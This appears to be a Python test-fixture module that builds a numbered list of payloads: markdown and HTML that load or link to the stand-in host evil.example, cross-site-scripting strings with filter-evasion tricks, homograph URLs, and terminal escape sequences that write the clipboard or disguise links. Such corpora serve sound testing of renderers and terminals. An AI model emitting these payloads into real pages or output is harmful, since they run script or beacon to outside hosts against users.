"""Texts that would make a page load or run something, a terminal obey, or a reader follow a link."""

from __future__ import annotations

import base64

HOST = "evil.example"
# Ways to write an address; %d is the carrier's number.
_ADDRESSES = (
    f"https://{HOST}/t%d", f"//{HOST}/t%d", f"http://user:pass@{HOST}:8080/t%d?q=1", "http://203.0.113.9/t%d",
    "https://xn--vl-ela.example/t%d", f"https://www.google.com/url?q=https://{HOST}/t%d",
)  # fmt: skip
# Ways to have an address loaded or followed.
_FORMS = (
    "![t%d]({0})", "![t%d][r]\n\n[r]: {0}", "[t%d]({0})", '<img src="{0}">', "<{0}> t%d", "{0} t%d",
    "[![t%d]({0})]({0})", '<a href="{0}">t%d</a>', "<iframe src={0}></iframe> t%d",
    '<link rel=prefetch href="{0}"> t%d',
)  # fmt: skip
_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='ran=1'/>").decode()
_SINGLE = (
    '<img src=x onerror="ran=1;alert(1)"> t%d', "<script>ran=1;alert(1)</script> t%d",
    f"<script src=//{HOST}/t%d></script>", f'<picture><source srcset="//{HOST}/t%d"><img></picture>',
    f"<video autoplay poster=//{HOST}/t%d src=//{HOST}/t%d></video>", f"<audio autoplay src=//{HOST}/t%d></audio>",
    f"<input type=image src=//{HOST}/t%d>", f"<body background=//{HOST}/t%d onload=ran=1>",
    f"<object data=//{HOST}/t%d></object>", f"<embed src=//{HOST}/t%d>",
    f"<link rel=stylesheet href=//{HOST}/t%d>", f"<base href=//{HOST}/t%d/>",
    f'<meta http-equiv=refresh content="0;url=//{HOST}/t%d">',
    f"<form action=//{HOST}/t%d><button autofocus>t</form>",
    "<details open ontoggle=ran=1>t%d</details>", "<marquee onstart=ran=1>t%d</marquee>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe> t%d', "<iframe src=javascript:parent.ran=1> t%d",
    "[t%d](javascript:alert(1))", "[t%d](JaVaScRiPt:ran=1)", "[t%d](java\tscript:ran=1)", "[t%d](vbscript:msgbox)",
    "[t%d](data:text/html,<script>opener.ran=1</script>)", "<a href=javascript:ran=1 autofocus>t%d</a>",
    f"![t%d](data:image/svg+xml;base64,{_SVG})", f"<img src=data:image/svg+xml;base64,{_SVG}> t%d",
    "<svg onload=ran=1>t%d</svg>", f"<svg><image href=//{HOST}/t%d /></svg>",
    f"<svg><use href=//{HOST}/t%d#a /></svg>",
    "<svg><script>ran=1</script></svg> t%d", "<svg><animate onbegin=ran=1 attributeName=x dur=1s> t%d",
    "<math><mtext><style><img src=x onerror=ran=1></style></mtext></math> t%d",
    "<noscript><p title='</noscript><img src=x onerror=ran=1>'> t%d", "</textarea><img src=x onerror=ran=1> t%d",
    "</title></style></script><img src=x onerror=ran=1> t%d", f"<style>@import '//{HOST}/t%d';</style>",
    f"<style>body{{background:url(//{HOST}/t%d)}}</style>", f'<p style="background:url(//{HOST}/t%d)">t%d</p>',
    f"<style>@font-face{{font-family:a;src:url(//{HOST}/t%d)}}*{{font-family:a}}</style>",
    f"$\\href{{https://{HOST}/t%d}}{{t}}$ \\url{{https://{HOST}/t%d}}", f"\\includegraphics{{https://{HOST}/t%d}}",
    f"A note[^1].\n\n[^1]: ![t](https://{HOST}/t%d)", "https://аррӏе.example/t%d", f"ht\u200btps://{HOST}/t%d",
    "<scr\u200bipt>ran=1</scr\u200bipt> t%d", "[t%d](java\u200bscript:ran=1)", f"&lt;img src=//{HOST}/t%d&gt;",
    f"&#60;img src=//{HOST}/t%d onerror=ran=1&#62;", "[t%d](&#106;avascript:ran=1)", f"www.{HOST}/t%d",
    f"[t%d]: https://{HOST}/t%d", f"<a ping=//{HOST}/t%d href=#>t</a>", f"```html\n<img src=//{HOST}/t%d>\n```",
    f"| a | b |\n|---|---|\n| ![t](//{HOST}/t%d) | <img src=//{HOST}/t%d> |", f"`![t](//{HOST}/t%d)`",
)  # fmt: skip
_TERMINAL = (
    f"\x1b]8;;https://{HOST}/t%d\x1b\\t%d\x1b]8;;\x1b\\", "\x1b[5;7mt%d\x1b[0m", "\x1b]52;c;dDEK\x07 t%d",
    "\x1b]0;t%d\x07", "\x1b[2J\x1b[H t%d", "\x1bc t%d", "\x9b5;7mt%d", "\x9d8;;https://evil.example\x9ct%d",
    "\x1bP$q\"p\x1b\\ t%d", "\x07\x07 t%d", "safe\x08\x08\x08\x08evil t%d", "safe\revil t%d", "\u202ednetni t%d",
    "\x1b[6n t%d", "\x1b]1337;File=inline=1:AAAA\x07 t%d", "\x1b_Ga=T;AAAA\x1b\\ t%d", "\u2066t%d\u2069\u2028x",
)  # fmt: skip


def carriers() -> list[str]:
    """The texts; the one with number n has "t" and n in it, by which it is found where it is shown."""
    made = [form.replace("{0}", address) for address in _ADDRESSES for form in _FORMS]
    return [text.replace("%d", str(number)) for number, text in enumerate([*made, *_SINGLE, *_TERMINAL])]
